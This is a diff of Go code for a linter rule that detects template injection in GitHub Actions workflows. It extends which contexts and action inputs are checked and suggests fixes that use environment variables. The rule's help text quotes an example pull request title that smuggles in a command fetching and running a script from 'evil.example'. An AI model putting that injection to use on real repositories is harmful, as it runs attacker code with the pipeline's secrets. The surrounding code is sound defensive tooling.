@@ -16,7 +16,11 @@ var templateInjectionRule = finding.Rule{
 	Help: "`${{ }}` is substituted into the script text before the shell or JavaScript runs, so a pull request titled " +
 		"`a\"; curl evil.example | sh; \"` runs the attacker's command with the job's token and secrets (Ultralytics 2024, Nx 2025). " +
 		"An environment variable is passed as data and never parsed as code. The list of attacker-controllable contexts is actionlint's, " +
-		"plus the workflow_run fields a pull request's author controls; values inside contains()/startsWith()/endsWith() are safe.",
+		"plus the workflow_run fields a pull request's author controls, in any letter case and in bracket notation (github.event['issue']['title']); " +
+		"a whole object that holds such fields (toJSON(github.event), github.event.issue) counts too. Values reduced to a boolean " +
+		"(contains(), startsWith(), endsWith(), comparisons, the left side of &&) are safe, and so are env: values and if: conditions. " +
+		"Besides run:, the inputs that actions run as code are checked: actions/github-script script, azure/cli and azure/powershell inlineScript, " +
+		"and a few more (cardinalby/js-eval-action, amadevus/pwsh-script, jannekem/run-python-script-action, appleboy/ssh-action).",
 }
 
 var templateInjection = Rule{Rule: templateInjectionRule, Workflow: checkTemplateInjectionWorkflow, Action: checkTemplateInjectionAction}
@@ -46,8 +50,8 @@ func taintedEnv(parent map[string]string, env []ciconfig.Pair) map[string]string
 		var tainted string
 		if p.Value != nil && strings.Contains(p.Value.Value, "${{") {
 			for _, e := range expressions(p.Value.Value) {
-				if paths := untrustedInputs(e.Node); len(paths) > 0 {
-					tainted = paths[0]
+				if len(e.Untrusted) > 0 {
+					tainted = e.Untrusted[0]
 					break
 				}
 			}
@@ -72,16 +76,33 @@ func taintedEnv(parent map[string]string, env []ciconfig.Pair) map[string]string
 
 func checkTemplateInjectionStep(c *Context, src *ciconfig.Source, s *ciconfig.Step, env map[string]string, report func(finding.Finding)) {
 	if s.Run != nil {
-		checkInjectedScript(c, src, s.Run, "run:", env, report)
+		checkInjectedScript(c, src, s.Run, "run:", shellLang(s.Shell), env, report)
 	}
-	if usesAction(s, "actions/github-script") {
-		if p := s.Input("script"); p != nil && p.Value != nil {
-			checkInjectedScript(c, src, p.Value, "actions/github-script script:", env, report)
+	if name := actionName(s); name != "" {
+		for _, sink := range codeInputs {
+			if name != sink.action {
+				continue
+			}
+			if p := s.Input(sink.input); p != nil && p.Value != nil {
+				checkInjectedScript(c, src, p.Value, sink.action+" "+sink.input+":", sink.lang, env, report)
+			}
 		}
 	}
 }
 
-func checkInjectedScript(c *Context, src *ciconfig.Source, script *ciconfig.String, where string, env map[string]string, report func(finding.Finding)) {
+// codeInputs are action inputs whose value the action runs as code.
+var codeInputs = []struct{ action, input, lang string }{
+	{"actions/github-script", "script", "js"},
+	{"cardinalby/js-eval-action", "expression", "js"},
+	{"azure/cli", "inlineScript", "sh"},
+	{"azure/powershell", "inlineScript", "pwsh"},
+	{"amadevus/pwsh-script", "script", "pwsh"},
+	{"jannekem/run-python-script-action", "script", "python"},
+	{"appleboy/ssh-action", "script", "sh"},
+	{"mathiasvr/command-output", "run", "sh"},
+}
+
+func checkInjectedScript(c *Context, src *ciconfig.Source, script *ciconfig.String, where, lang string, env map[string]string, report func(finding.Finding)) {
 	if !strings.Contains(script.Value, "${{") {
 		return
 	}
@@ -90,7 +111,7 @@ func checkInjectedScript(c *Context, src *ciconfig.Source, script *ciconfig.Stri
 		if n == maxFindingsPerScalar {
 			return
 		}
-		paths := untrustedInputs(e.Node)
+		paths := e.Untrusted
 		if len(paths) == 0 && len(env) > 0 {
 			paths = taintedEnvRefs(script.Value[e.Start:e.End], env)
 		}
@@ -101,10 +122,10 @@ func checkInjectedScript(c *Context, src *ciconfig.Source, script *ciconfig.Stri
 		fix := ""
 		if name, ok := strings.CutPrefix(paths[0], "env."); ok {
 			name, _, _ = strings.Cut(name, " ")
-			fix = "The value is already in the step's environment: use \"" + shellRef(where, name) + "\" instead of the expression."
+			fix = "The value is already in the step's environment: use \"" + shellRef(lang, name) + "\" instead of the expression."
 		} else {
 			env := envName(paths[0])
-			fix = "Pass it through an environment variable: add `env: " + env + ": " + text + "` to the step and use \"" + shellRef(where, env) + "\" instead of the expression."
+			fix = "Pass it through an environment variable: add `env: " + env + ": " + text + "` to the step and use \"" + shellRef(lang, env) + "\" instead of the expression."
 		}
 		n++
 		report(c.at(&templateInjectionRule, src.Locate(script, e.Start),
@@ -116,6 +137,7 @@ func checkInjectedScript(c *Context, src *ciconfig.Source, script *ciconfig.Stri
 // envName derives an environment variable name from a context path:
 // github.event.pull_request.title gives PR_TITLE.
 func envName(path string) string {
+	path, _, _ = strings.Cut(path, " ")
 	parts := strings.Split(path, ".")
 	last := parts[len(parts)-1]
 	prefix := ""
@@ -140,9 +162,32 @@ func envName(path string) string {
 	return strings.ToUpper(prefix + strings.ReplaceAll(last, "-", "_"))
 }
 
-func shellRef(where, env string) string {
-	if strings.HasPrefix(where, "actions/github-script") {
+// shellLang is the language of a run: script with shell: sh (nil for the
+// default shell).
+func shellLang(sh *ciconfig.String) string {
+	if sh == nil {
+		return "sh"
+	}
+	switch v := strings.ToLower(strings.TrimSpace(sh.Value)); {
+	case strings.HasPrefix(v, "pwsh"), strings.HasPrefix(v, "powershell"):
+		return "pwsh"
+	case strings.HasPrefix(v, "python"):
+		return "python"
+	case strings.HasPrefix(v, "node"):
+		return "js"
+	}
+	return "sh"
+}
+
+// shellRef is how a script in language lang reads environment variable env.
+func shellRef(lang, env string) string {
+	switch lang {
+	case "js":
 		return "process.env." + env
+	case "pwsh":
+		return "$env:" + env
+	case "python":
+		return "os.environ['" + env + "']"
 	}
 	return "$" + env
 }
